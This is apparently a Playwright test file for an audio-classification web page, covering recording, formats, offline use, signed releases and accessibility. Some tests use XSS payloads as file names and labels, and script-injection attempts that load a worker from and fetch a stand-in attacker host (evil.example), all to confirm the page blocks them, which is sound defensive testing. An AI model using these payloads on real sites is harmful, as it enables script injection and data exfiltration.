"""The page as a visitor has it: Chromium with a fake microphone fed from a file, driven by Playwright."""

import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile

from stages.core.project import files
from stages.core.project.errors import DataError, DeviceError
from stages.core.project.provenance import ROOT
from stages.push import browser, page, signing
from stages.push.page_server import Served, serving
from stages.runtime import trust

sys.path.insert(0, str(Path(__file__).parent))
import pages  # type: ignore[import-not-found]

pytestmark = pytest.mark.thorough

READY = "html[data-ready]"
AXE = ROOT / "stages/push/web/node_modules/axe-core/axe.min.js"
LOUD = (1.0, 2.0)  # seconds in which the microphone hears the tone
PHONE = {"viewport": {"width": 390, "height": 844}, "color_scheme": "dark"}


@dataclass
class Visit:
    """One tab and all that it complained about."""

    tab: Any
    errors: list[str] = field(default_factory=list)

    def open(self, address: str) -> None:
        self.tab.goto(address)
        self.tab.wait_for_selector(READY, timeout=30_000)

    def text(self, selector: str) -> str:
        return str(self.tab.inner_text(selector))

    def decide(self, path: Path) -> str:
        """Drop a file's twin into the picker and return the decision."""
        self.tab.evaluate("document.querySelector('#result').removeAttribute('aria-busy')")
        self.tab.set_input_files("#file", str(path))
        self.tab.wait_for_selector("#result[aria-busy=false], #message:not(:empty)", timeout=30_000)
        return self.text("#decision")


@pytest.fixture(scope="module")
def sounds(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tone from 1 s to 2 s between near silence, as the microphone hears it, and in six formats."""
    folder = tmp_path_factory.mktemp("sounds")
    sound = np.concatenate([pages.tone(1, 0.003, 48000), pages.tone(1, 0.3, 48000), pages.tone(2, 0.003, 48000)])
    soundfile.write(folder / "microphone.wav", sound, 48000, subtype="PCM_16")
    loud = pages.tone(0.5, 0.3, 48000)
    for name, options in {
        "a.wav": {"subtype": "PCM_24"},
        "b.flac": {},
        "c.ogg": {},
        "d.mp3": {},
        "e.opus": {"format": "OGG", "subtype": "OPUS"},
        "f.wav": {"subtype": "FLOAT"},
    }.items():
        soundfile.write(folder / name, loud, 48000, **options)
    return folder


@pytest.fixture(scope="module")
def chromium(sounds: Path) -> Iterator[Any]:
    playwright = pytest.importorskip("playwright.sync_api", reason="pip install playwright")
    try:
        page.built()
        program = browser.find().program
    except (DataError, DeviceError) as error:
        pytest.skip(str(error))
    if "firefox" in program:
        pytest.skip("the fake microphone is Chromium's; install chromium")
    arguments = [
        "--use-fake-ui-for-media-stream",
        "--use-fake-device-for-media-stream",
        f"--use-file-for-fake-audio-capture={sounds / 'microphone.wav'}%noloop",
    ]
    with playwright.sync_playwright() as driver:
        started = driver.chromium.launch(executable_path=program, args=arguments)
        yield started
        started.close()


@pytest.fixture(scope="module")
def releases(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Versions 1 and 2."""
    folder = tmp_path_factory.mktemp("releases")
    return [pages.release(folder / "1", 1), pages.release(folder / "2", 2, gain=30.0)]


@dataclass
class Published:
    """A folder as a web server publishes it; the release may be replaced."""

    folder: Path

    def put(self, release: Path) -> None:
        shutil.rmtree(self.folder / "current", ignore_errors=True)
        shutil.copytree(release, self.folder / "current")


@pytest.fixture
def published(tmp_path: Path, releases: list[Path]) -> Published:
    place = Published(tmp_path / "public")
    page.write(place.folder, None)
    place.put(releases[0])
    return place


@pytest.fixture
def served(published: Published) -> Iterator[str]:
    with serving(Served(published.folder, published.folder / "current")) as address:
        yield address


def visit(context: Any) -> Visit:
    found = Visit(context.new_page())
    found.tab.on("pageerror", lambda error: found.errors.append(str(error)))
    found.tab.on(
        "console",
        lambda message: (
            found.errors.append(message.text)
            if "Content Security Policy" in message.text or "Trusted" in message.text
            else None
        ),
    )
    return found


@pytest.fixture
def visitor(chromium: Any) -> Iterator[Visit]:
    context = chromium.new_context(permissions=["microphone"])
    found = visit(context)
    yield found
    context.close()
    assert found.errors == []


def test_a_recording_is_decided_played_and_explained(visitor: Visit, served: str) -> None:
    visitor.open(served)
    visitor.tab.click("#record")
    visitor.tab.wait_for_selector("#record-text:text-matches('Stop .[3-9] s')", timeout=20_000)
    visitor.tab.click("#record")
    visitor.tab.wait_for_selector("#found li", timeout=20_000)
    assert visitor.text("#found").startswith("positive")
    duration = """new Promise((resolve) => {
        const player = document.querySelector('#player');
        if (player.readyState) resolve(player.duration);
        else player.addEventListener('loadedmetadata', () => resolve(player.duration));
    })"""
    assert visitor.tab.evaluate(duration) > 2.5
    assert visitor.text("#message") == ""


def test_the_part_that_the_decision_hangs_on_is_named(visitor: Visit, served: str, sounds: Path) -> None:
    visitor.open(served)
    assert visitor.decide(sounds / "a.wav") == "positive"
    visitor.tab.click("#explain")
    visitor.tab.wait_for_selector("#explanation li", timeout=60_000)
    explained = visitor.text("#explanation")
    assert "score" in explained


def test_live_listening_tells_the_event_within_a_hop(visitor: Visit, served: str) -> None:
    visitor.open(served)
    visitor.tab.click("#live")
    visitor.tab.wait_for_selector("#events li", timeout=30_000)
    label, _, times = visitor.text("#events li").partition(": ")
    onset, offset = (float(each.removesuffix(" s")) for each in times.split(", ")[0].split(" to "))
    visitor.tab.click("#live")
    hop = 0.5
    assert label == "positive"
    assert abs((offset - onset) - (LOUD[1] - LOUD[0])) <= hop
    assert abs(onset - LOUD[0]) <= hop + 0.2  # the microphone starts a moment before the page hears it


@pytest.mark.parametrize("name", ["a.wav", "b.flac", "c.ogg", "d.mp3", "e.opus", "f.wav"])
def test_a_file_of_six_formats(visitor: Visit, served: str, sounds: Path, name: str) -> None:
    visitor.open(served)
    assert visitor.decide(sounds / name) == "positive"


def test_what_is_no_sound_is_one_sentence(visitor: Visit, served: str, tmp_path: Path) -> None:
    visitor.open(served)
    evil = tmp_path / "<img src=x onerror=alert(1)>.wav"
    evil.write_bytes(b"RIFF\xff\xff\xff\xffWAVEfmt \x10\x00\x00\x00" + b"\xff" * 64)
    visitor.decide(evil)
    assert "cannot decode" in visitor.text("#message")
    assert visitor.tab.query_selector("img") is None


def test_a_page_works_without_a_network_after_the_first_visit(chromium: Any, published: Published) -> None:
    context = chromium.new_context()
    tab = visit(context)
    with serving(Served(published.folder, published.folder / "current")) as address:
        tab.open(address)
        tab.tab.evaluate("navigator.serviceWorker.ready.then(() => true)")
        tab.tab.reload()
        tab.tab.wait_for_selector(READY, timeout=30_000)
    tab.tab.reload()  # nothing answers any more
    tab.tab.wait_for_selector(READY, timeout=30_000)
    assert "No network" in tab.text("#status")
    assert "Version 1" in tab.text("#status")
    context.close()


def test_an_update_is_taken_and_an_older_version_is_refused(
    visitor: Visit, served: str, published: Published, releases: list[Path]
) -> None:
    visitor.open(served)
    assert "Version 1" in visitor.text("#status")
    published.put(releases[1])
    visitor.open(served)
    assert "Version 2" in visitor.text("#status")
    published.put(releases[0])
    visitor.open(served)
    status = visitor.text("#status")
    assert "Version 2" in status
    assert "is version 1, and this browser ran version 2" in status


def test_a_release_that_fails_its_self_test_or_is_damaged_is_not_used(
    visitor: Visit, served: str, published: Published, releases: list[Path], tmp_path: Path
) -> None:
    visitor.open(served)
    broken = Path(shutil.copytree(releases[1], tmp_path / "broken"))
    content = json.loads((broken / "manifest.json").read_text())
    content["golden"][0]["scores"] = [0.9]
    files.write_json(broken / "manifest.json", content)
    published.put(broken)
    visitor.open(served)
    assert "Version 1" in visitor.text("#status")
    assert "fails its self-test in this browser" in visitor.text("#status")
    damaged = Path(shutil.copytree(releases[1], tmp_path / "damaged"))
    (damaged / "model.tflite").write_bytes(b"damaged")
    published.put(damaged)
    visitor.open(served)
    assert "model.tflite is missing or altered" in visitor.text("#status")


def test_only_a_pinned_keys_signature_is_taken(visitor: Visit, tmp_path: Path) -> None:
    mine, other = tmp_path / "mine.pem", tmp_path / "other.pem"
    public = signing.new_key(mine)
    signing.new_key(other)
    place = Published(tmp_path / "public")
    page.write(place.folder, {trust.fingerprint(public): public})
    with serving(Served(place.folder, place.folder / "current")) as address:
        place.put(pages.release(tmp_path / "foreign", 1, key=other))
        visitor.tab.goto(address)
        visitor.tab.wait_for_selector("#message:not(:empty)")
        assert "not signed with a key that this page trusts" in visitor.text("#message")
        place.put(pages.release(tmp_path / "unsigned", 1))
        visitor.tab.goto(address)
        visitor.tab.wait_for_selector("#message:not(:empty)")
        assert "takes signed releases only" in visitor.text("#message")
        place.put(pages.release(tmp_path / "signed", 1, key=mine))
        visitor.open(address)
        assert f"signed by {trust.fingerprint(public)}" in visitor.text("#status")


def test_labels_and_cards_never_become_html(visitor: Visit, served: str, published: Published, sounds: Path) -> None:
    evil = "<img src=x onerror=document.title='evil'>"
    path = published.folder / "current/manifest.json"
    content = json.loads(path.read_text()) | {"labels": ["quiet", evil], "registered_name": f"{evil}<script>"}
    (published.folder / "current/MODEL_CARD.md").write_text(f"## Intended use\n\n{evil}. More.\n")
    content["files"]["MODEL_CARD.md"] = files.sha256(published.folder / "current/MODEL_CARD.md")
    files.write_json(path, content)
    visitor.open(served)
    assert visitor.decide(sounds / "a.wav") == evil
    assert visitor.tab.query_selector("img") is None
    assert visitor.text("#title").startswith(evil)
    assert visitor.tab.title().startswith("<img")


def test_what_the_release_calls_unknown_is_unknown(
    visitor: Visit, served: str, published: Published, sounds: Path
) -> None:
    path = published.folder / "current/manifest.json"
    content = json.loads(path.read_text())
    files.write_json(path, content | {"reject": {"measure": "distance", "limit": 100.0, "kept": 0.95}})
    visitor.open(served)
    assert visitor.decide(sounds / "a.wav") == "Unknown"
    assert "nearest is positive" in visitor.text("#details")


def test_injected_scripts_do_not_run(chromium: Any, served: str) -> None:
    context = chromium.new_context()
    tab = context.new_page()
    tab.goto(served)
    tab.wait_for_selector(READY, timeout=30_000)
    for attack in (
        "document.body.innerHTML = '<img src=x onerror=window.evil=1>'",
        "eval('window.evil = 1')",
        "new Function('window.evil = 1')()",
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.evil = 1'}))",
        "new Worker('https://evil.example/worker.js')",
    ):
        # Later, since what the debugger evaluates may evaluate itself.
        script = f"""async () => {{
            await new Promise((resolve) => setTimeout(resolve, 100));
            try {{ {attack}; return '' }} catch (error) {{ return String(error) }}
        }}"""
        refused = tab.evaluate(script)
        assert refused, attack
    fetched = tab.evaluate("fetch('https://evil.example/').then(() => 'sent', String)")
    assert fetched != "sent"
    assert tab.evaluate("window.evil") is None
    context.close()


@pytest.mark.parametrize("options", [{}, {"color_scheme": "dark"}, PHONE], ids=["light", "dark", "phone"])
def test_accessibility_has_no_violation(chromium: Any, served: str, sounds: Path, options: dict[str, Any]) -> None:
    if not AXE.is_file():
        pytest.skip("no axe-core here; run `npm ci` in stages/push/web")
    context = chromium.new_context(bypass_csp=True, **options)
    tab = visit(context)
    tab.open(served)
    tab.decide(sounds / "a.wav")
    tab.tab.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
    tab.tab.evaluate(AXE.read_text())
    found = tab.tab.evaluate("axe.run().then((all) => all.violations.map((each) => each.id + ': ' + each.help))")
    assert found == []
    width = tab.tab.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert width[0] <= width[1]
    context.close()


def test_everything_can_be_reached_and_used_by_keyboard(visitor: Visit, served: str) -> None:
    visitor.open(served)
    reached = []
    for _ in range(8):
        visitor.tab.keyboard.press("Tab")
        reached.append(visitor.tab.evaluate("document.activeElement.id || document.activeElement.textContent"))
    assert {"record", "live", "pick"} <= set(reached)
    visitor.tab.focus("#examples summary")
    visitor.tab.keyboard.press("Enter")
    visitor.tab.keyboard.press("Tab")
    visitor.tab.keyboard.press("Enter")
    visitor.tab.wait_for_selector("#scores li", timeout=30_000)


def test_the_types_the_rules_and_the_units_hold() -> None:
    npx = shutil.which("npx")
    if npx is None or not AXE.is_file():
        pytest.skip("no npm here; install Node.js and run `npm ci` in stages/push/web")
    done = subprocess.run(
        ["npm", "run", "check"], cwd=ROOT / "stages/push/web", capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr
